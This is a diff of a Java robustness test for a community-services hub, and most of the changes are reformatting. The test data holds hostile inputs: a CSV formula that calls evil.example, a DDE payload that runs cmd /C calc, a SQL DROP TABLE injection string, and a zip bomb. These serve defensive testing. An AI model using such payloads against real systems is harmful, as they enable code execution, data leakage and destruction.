@@ -1,5 +1,9 @@
 package org.wushe.hub.local.hub;
 
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+import com.fasterxml.jackson.databind.JsonNode;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.net.URI;
@@ -16,17 +20,12 @@ import java.util.TreeMap;
 import java.util.UUID;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
-
-import com.fasterxml.jackson.databind.JsonNode;
 import org.apache.kafka.clients.producer.KafkaProducer;
 import org.apache.kafka.clients.producer.ProducerConfig;
 import org.apache.kafka.clients.producer.ProducerRecord;
 import org.apache.kafka.common.serialization.ByteArraySerializer;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
-
-import static org.assertj.core.api.Assertions.assertThat;
-import static org.awaitility.Awaitility.await;
 
 /**
  * The bad-input suite, against the whole hub with a tenth of the sample town: malformed JSON, wrong types,
@@ -37,7 +36,6 @@ import static org.awaitility.Awaitility.await;
  * accepted before is lost. Prints how many inputs were tried and how each ended.
  */
 class HubBadInputTest {
-
 
     /** Each service's endpoints that take a JSON body. */
     private static final Map<String, List<String>> JSON_ENDPOINTS = new LinkedHashMap<>();
@@ -52,9 +50,15 @@ class HubBadInputTest {
     }
 
     /** The topics the services consume (Aggregate's catalogue), each poisoned. */
-    private static final List<String> CONSUMED_TOPICS = List.of("wushe.community.need", "wushe.community.station",
-            "wushe.matching.match", "wushe.resource.offer", "wushe.resource.donor", "wushe.volunteer.volunteer",
-            "wushe.organization.organization", "wushe.socialworker.worker");
+    private static final List<String> CONSUMED_TOPICS = List.of(
+            "wushe.community.need",
+            "wushe.community.station",
+            "wushe.matching.match",
+            "wushe.resource.offer",
+            "wushe.resource.donor",
+            "wushe.volunteer.volunteer",
+            "wushe.organization.organization",
+            "wushe.socialworker.worker");
 
     private final HubProcess hub = new HubProcess("hub-bad-input");
     private final Map<String, Integer> outcomes = new TreeMap<>();
@@ -79,25 +83,40 @@ class HubBadInputTest {
 
         // The services still serve, the events still flow: a station registered now reaches matching.
         for (String service : HubProcess.SERVICES) {
-            assertThat(hub.get(service, "/actuator/health").path("status").asText()).as(service).isEqualTo("UP");
+            assertThat(hub.get(service, "/actuator/health").path("status").asText())
+                    .as(service)
+                    .isEqualTo("UP");
         }
-        String stationName = "坏输入之后 after-bad-input " + UUID.randomUUID().toString().substring(0, 8);
-        String communityId = hub.get("community-service", "/communities?limit=1").get(0).get("id").asText();
-        HttpResponse<String> station = post("community-service", "/stations", "{\"name\":\"" + stationName
-                + "\",\"level\":\"COMMUNITY_STATION\",\"communityId\":\"" + communityId + "\",\"servedCommunityIds\":[\"" + communityId + "\"]}");
+        String stationName =
+                "坏输入之后 after-bad-input " + UUID.randomUUID().toString().substring(0, 8);
+        String communityId = hub.get("community-service", "/communities?limit=1")
+                .get(0)
+                .get("id")
+                .asText();
+        HttpResponse<String> station = post(
+                "community-service",
+                "/stations",
+                "{\"name\":\"" + stationName + "\",\"level\":\"COMMUNITY_STATION\",\"communityId\":\"" + communityId
+                        + "\",\"servedCommunityIds\":[\"" + communityId + "\"]}");
         assertThat(station.statusCode()).as(station.body()).isEqualTo(201);
-        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofSeconds(1))
+        await().atMost(Duration.ofSeconds(60))
+                .pollInterval(Duration.ofSeconds(1))
                 .until(() -> hub.get("matching-service", "/stations").toString().contains(stationName));
 
         // Nothing accepted before is lost (more may have arrived: the sample's needs go on).
         Map<String, Integer> after = counts();
-        before.forEach((what, n) -> assertThat(after.get(what)).as(what + " before " + n + ", after").isGreaterThanOrEqualTo(n));
+        before.forEach((what, n) -> assertThat(after.get(what))
+                .as(what + " before " + n + ", after")
+                .isGreaterThanOrEqualTo(n));
 
-        System.out.printf("bad-input suite: %d inputs tried (%d of them poison records on %d topics)%n", tried, poisoned,
-                CONSUMED_TOPICS.size());
+        System.out.printf(
+                "bad-input suite: %d inputs tried (%d of them poison records on %d topics)%n",
+                tried, poisoned, CONSUMED_TOPICS.size());
         outcomes.forEach((how, n) -> System.out.printf("  %-60s %5d%n", how, n));
         System.out.printf("  kept before → after: %s → %s%n", before, after);
-        assertThat(wrong).as("inputs that did not end in a clear 4xx, as data, or as a dead letter").isEmpty();
+        assertThat(wrong)
+                .as("inputs that did not end in a clear 4xx, as data, or as a dead letter")
+                .isEmpty();
     }
 
     // ---------------------------------------------------------------- JSON bodies
@@ -114,15 +133,27 @@ class HubBadInputTest {
         cases.put("an array instead of an object", "[1,2,3]".getBytes(StandardCharsets.UTF_8));
         cases.put("missing every field", "{}".getBytes(StandardCharsets.UTF_8));
         cases.put("unknown field", "{\"bogusField\":1}".getBytes(StandardCharsets.UTF_8));
-        cases.put("wrong types", "{\"name\":[1,2],\"communityId\":42,\"kind\":{\"a\":1},\"skills\":\"x\",\"reason\":7}".getBytes(StandardCharsets.UTF_8));
-        cases.put("a number too large", "{\"gridCount\":1e999999,\"quantity\":99999999999999999999999}".getBytes(StandardCharsets.UTF_8));
-        cases.put("invalid UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'});
+        cases.put(
+                "wrong types",
+                "{\"name\":[1,2],\"communityId\":42,\"kind\":{\"a\":1},\"skills\":\"x\",\"reason\":7}"
+                        .getBytes(StandardCharsets.UTF_8));
+        cases.put(
+                "a number too large",
+                "{\"gridCount\":1e999999,\"quantity\":99999999999999999999999}".getBytes(StandardCharsets.UTF_8));
+        cases.put(
+                "invalid UTF-8",
+                new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'});
         cases.put("nesting 5,000 deep", deep.toString().getBytes(StandardCharsets.UTF_8));
         cases.put("10 MB body", tenMegabytes.getBytes(StandardCharsets.UTF_8));
         JSON_ENDPOINTS.forEach((service, paths) -> {
             for (String path : paths) {
-                cases.forEach((name, body) -> expectProblem(name, service, path, send(service, path, "application/json", body)));
-                expectProblem("wrong content type", service, path, send(service, path, "text/plain", "{}".getBytes(StandardCharsets.UTF_8)));
+                cases.forEach((name, body) ->
+                        expectProblem(name, service, path, send(service, path, "application/json", body)));
+                expectProblem(
+                        "wrong content type",
+                        service,
+                        path,
+                        send(service, path, "text/plain", "{}".getBytes(StandardCharsets.UTF_8)));
             }
         });
     }
@@ -138,7 +169,10 @@ class HubBadInputTest {
             JsonNode body = HubProcess.readTree(r.body());
             named = body.path("errors").path(0).path("field").asText().length() > 0;
         }
-        boolean ok = status >= 400 && status < 500 && problemJson && (named || status == 415 || status == 405 || status == 404);
+        boolean ok = status >= 400
+                && status < 500
+                && problemJson
+                && (named || status == 415 || status == 405 || status == 404);
         outcomes.merge(status + (named ? " problem naming the field" : " problem"), 1, Integer::sum);
         if (!ok) {
             wrong.add(input + " → " + where + ": " + status + " " + abbreviate(r.body()));
@@ -167,15 +201,35 @@ class HubBadInputTest {
 
     /** Odd text in a name: refused with 400 naming it, or stored and read back exactly as sent. */
     private void textIsData() {
-        String communityId = hub.get("community-service", "/communities?limit=1").get(0).get("id").asText();
+        String communityId = hub.get("community-service", "/communities?limit=1")
+                .get(0)
+                .get("id")
+                .asText();
         TEXTS.forEach((name, text) -> {
             String quoted = jsonString(text);
-            storedOrRefused(name, "community-service", "/communities", "{\"name\":" + quoted
-                    + ",\"kind\":\"URBAN\",\"districtCode\":\"110112\",\"streetCode\":\"110112104\",\"geohash\":\"wx4fye\","
-                    + "\"gridCount\":1,\"householdCount\":10,\"residentCount\":20}", "name", text);
-            storedOrRefused(name, "volunteer-service", "/teams", "{\"name\":" + quoted + ",\"purpose\":" + quoted + "}", "name", text);
-            storedOrRefused(name, "community-service", "/residents", "{\"communityId\":\"" + communityId + "\",\"name\":" + quoted
-                    + ",\"address\":" + quoted + "}", null, text);
+            storedOrRefused(
+                    name,
+                    "community-service",
+                    "/communities",
+                    "{\"name\":" + quoted
+                            + ",\"kind\":\"URBAN\",\"districtCode\":\"110112\",\"streetCode\":\"110112104\",\"geohash\":\"wx4fye\","
+                            + "\"gridCount\":1,\"householdCount\":10,\"residentCount\":20}",
+                    "name",
+                    text);
+            storedOrRefused(
+                    name,
+                    "volunteer-service",
+                    "/teams",
+                    "{\"name\":" + quoted + ",\"purpose\":" + quoted + "}",
+                    "name",
+                    text);
+            storedOrRefused(
+                    name,
+                    "community-service",
+                    "/residents",
+                    "{\"communityId\":\"" + communityId + "\",\"name\":" + quoted + ",\"address\":" + quoted + "}",
+                    null,
+                    text);
         });
     }
 
@@ -201,20 +255,37 @@ class HubBadInputTest {
     // ---------------------------------------------------------------- spreadsheets
 
     private void spreadsheets() throws IOException {
-        String template = hub.send("community-service", HttpRequest.newBuilder(URI.create(hub.url("community-service",
-                "/imports/templates/zh?format=csv"))).GET()).body();
-        String header = template.lines().filter(l -> !l.isBlank()).findFirst().orElseThrow().replace("\uFEFF", "");
+        String template = hub.send(
+                        "community-service",
+                        HttpRequest.newBuilder(
+                                        URI.create(hub.url("community-service", "/imports/templates/zh?format=csv")))
+                                .GET())
+                .body();
+        String header = template.lines()
+                .filter(l -> !l.isBlank())
+                .findFirst()
+                .orElseThrow()
+                .replace("\uFEFF", "");
         int columns = header.split(",", -1).length;
         String formulaRow = "=HYPERLINK(\"http://evil.example/\"&A1)" + ",x".repeat(columns - 1);
-        upload("formula in a CSV cell", "needs.csv", (header + "\n" + formulaRow + "\n").getBytes(StandardCharsets.UTF_8));
-        upload("DDE formula in a CSV cell", "needs.csv", (header + "\n" + "@SUM(1+9)*cmd|' /C calc'!A0" + ",x".repeat(columns - 1) + "\n")
-                .getBytes(StandardCharsets.UTF_8));
+        upload(
+                "formula in a CSV cell",
+                "needs.csv",
+                (header + "\n" + formulaRow + "\n").getBytes(StandardCharsets.UTF_8));
+        upload(
+                "DDE formula in a CSV cell",
+                "needs.csv",
+                (header + "\n" + "@SUM(1+9)*cmd|' /C calc'!A0" + ",x".repeat(columns - 1) + "\n")
+                        .getBytes(StandardCharsets.UTF_8));
         StringBuilder huge = new StringBuilder(header).append('\n');
         String row = "门锁维修" + ",x".repeat(columns - 1) + "\n";
         huge.append(row.repeat(25_000));
         upload("25,000-row sheet (cap 20,000)", "needs.csv", huge.toString().getBytes(StandardCharsets.UTF_8));
         upload("zip bomb as .xlsx", "needs.xlsx", zipBomb());
-        upload("not a spreadsheet", "needs.xlsx", "MZ\u0090\u0000 this is no zip".getBytes(StandardCharsets.ISO_8859_1));
+        upload(
+                "not a spreadsheet",
+                "needs.xlsx",
+                "MZ\u0090\u0000 this is no zip".getBytes(StandardCharsets.ISO_8859_1));
         upload("empty file", "needs.csv", new byte[0]);
     }
 
@@ -222,10 +293,12 @@ class HubBadInputTest {
         String boundary = "----wushe" + UUID.randomUUID();
         ByteArrayOutputStream body = new ByteArrayOutputStream();
         body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
-                + "\"\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
+                        + "\"\r\nContent-Type: application/octet-stream\r\n\r\n")
+                .getBytes(StandardCharsets.UTF_8));
         body.writeBytes(content);
         body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
-        HttpResponse<String> r = send("community-service", "/imports", "multipart/form-data; boundary=" + boundary, body.toByteArray());
+        HttpResponse<String> r =
+                send("community-service", "/imports", "multipart/form-data; boundary=" + boundary, body.toByteArray());
         expectProblem(input, "community-service", "/imports", r);
     }
 
@@ -234,8 +307,9 @@ class HubBadInputTest {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         try (ZipOutputStream zip = new ZipOutputStream(out)) {
             zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
-            zip.write("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
-                    .getBytes(StandardCharsets.UTF_8));
+            zip.write(
+                    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
+                            .getBytes(StandardCharsets.UTF_8));
             zip.closeEntry();
             zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
             byte[] spaces = new byte[1 << 20];
@@ -259,13 +333,17 @@ class HubBadInputTest {
         List<byte[]> poisons = List.of(
                 "not avro at all".getBytes(StandardCharsets.UTF_8),
                 new byte[0],
-                new byte[] {(byte) 0xC3, 0x01, 1, 2, 3, 4, 5, 6, 7, 8, 9, 9, 9, 9},  // single-object magic, unknown fingerprint
-                "{\"eventType\":\"NeedPublished\",\"needId\":\"'; DROP TABLE need; --\"}".getBytes(StandardCharsets.UTF_8));
+                new byte[] {(byte) 0xC3, 0x01, 1, 2, 3, 4, 5, 6, 7, 8, 9, 9, 9, 9
+                }, // single-object magic, unknown fingerprint
+                "{\"eventType\":\"NeedPublished\",\"needId\":\"'; DROP TABLE need; --\"}"
+                        .getBytes(StandardCharsets.UTF_8));
         int sent = 0;
-        try (KafkaProducer<byte[], byte[]> producer = new KafkaProducer<>(p, new ByteArraySerializer(), new ByteArraySerializer())) {
+        try (KafkaProducer<byte[], byte[]> producer =
+                new KafkaProducer<>(p, new ByteArraySerializer(), new ByteArraySerializer())) {
             for (String topic : CONSUMED_TOPICS) {
                 for (byte[] poison : poisons) {
-                    ProducerRecord<byte[], byte[]> record = new ProducerRecord<>(topic, UUID.randomUUID().toString().getBytes(StandardCharsets.UTF_8), poison);
+                    ProducerRecord<byte[], byte[]> record = new ProducerRecord<>(
+                            topic, UUID.randomUUID().toString().getBytes(StandardCharsets.UTF_8), poison);
                     record.headers().add("id", UUID.randomUUID().toString().getBytes(StandardCharsets.UTF_8));
                     record.headers().add("eventType", "Garbage".getBytes(StandardCharsets.UTF_8));
                     producer.send(record).get();
@@ -275,10 +353,14 @@ class HubBadInputTest {
         }
         tried += sent;
         // Each consumer of a topic dead-letters each poison record: at least one dead letter per record sent.
-        await().atMost(Duration.ofSeconds(120)).pollInterval(Duration.ofSeconds(2)).until(() -> {
-            Map<String, Long> now = dltCounts();
-            return CONSUMED_TOPICS.stream().allMatch(t -> now.getOrDefault(t + ".dlt", 0L) - dltBefore.getOrDefault(t + ".dlt", 0L) >= poisons.size());
-        });
+        await().atMost(Duration.ofSeconds(120))
+                .pollInterval(Duration.ofSeconds(2))
+                .until(() -> {
+                    Map<String, Long> now = dltCounts();
+                    return CONSUMED_TOPICS.stream()
+                            .allMatch(t -> now.getOrDefault(t + ".dlt", 0L) - dltBefore.getOrDefault(t + ".dlt", 0L)
+                                    >= poisons.size());
+                });
         Map<String, Long> after = dltCounts();
         for (String topic : CONSUMED_TOPICS) {
             long n = after.getOrDefault(topic + ".dlt", 0L) - dltBefore.getOrDefault(topic + ".dlt", 0L);
@@ -289,21 +371,30 @@ class HubBadInputTest {
     }
 
     private Map<String, Long> dltCounts() {
-        return hub.recordCounts(topic -> CONSUMED_TOPICS.contains(topic.replaceFirst("\\.dlt$", "")) && topic.endsWith(".dlt"));
+        return hub.recordCounts(
+                topic -> CONSUMED_TOPICS.contains(topic.replaceFirst("\\.dlt$", "")) && topic.endsWith(".dlt"));
     }
 
     // ---------------------------------------------------------------- helpers
 
     private Map<String, Integer> counts() {
         Map<String, Integer> n = new LinkedHashMap<>();
-        n.put("communities", hub.get("community-service", "/communities?limit=1000").size());
+        n.put(
+                "communities",
+                hub.get("community-service", "/communities?limit=1000").size());
         n.put("residents", hub.residents().size());
         n.put("needs", hub.get("community-service", "/needs?limit=1000").size());
-        n.put("volunteers", hub.get("volunteer-service", "/volunteers?limit=200").size());
+        n.put(
+                "volunteers",
+                hub.get("volunteer-service", "/volunteers?limit=200").size());
         n.put("offers", hub.get("resource-service", "/offers").size());
         n.put("organizations", hub.get("organization-service", "/organizations").size());
-        n.put("social workers", hub.get("social-worker-service", "/social-workers?limit=100").size());
-        n.put("matched in matching", hub.get("matching-service", "/engine").path("needsMatched").asInt());
+        n.put(
+                "social workers",
+                hub.get("social-worker-service", "/social-workers?limit=100").size());
+        n.put(
+                "matched in matching",
+                hub.get("matching-service", "/engine").path("needsMatched").asInt());
         return n;
     }
 
@@ -312,14 +403,19 @@ class HubBadInputTest {
     }
 
     private HttpResponse<String> send(String service, String path, String contentType, byte[] body) {
-        return hub.send(service, HttpRequest.newBuilder(URI.create(hub.url(service, path)))
-                .header("Content-Type", contentType).header("Accept", "application/json")
-                .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
+        return hub.send(
+                service,
+                HttpRequest.newBuilder(URI.create(hub.url(service, path)))
+                        .header("Content-Type", contentType)
+                        .header("Accept", "application/json")
+                        .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
     }
 
     /** Every character beyond ASCII escaped in the JSON, so a lone surrogate or a NUL travels as itself. */
-    private static final com.fasterxml.jackson.databind.ObjectMapper ESCAPING = com.fasterxml.jackson.databind.json.JsonMapper.builder()
-            .enable(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII).build();
+    private static final com.fasterxml.jackson.databind.ObjectMapper ESCAPING =
+            com.fasterxml.jackson.databind.json.JsonMapper.builder()
+                    .enable(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII)
+                    .build();
 
     private static String jsonString(String s) {
         try {
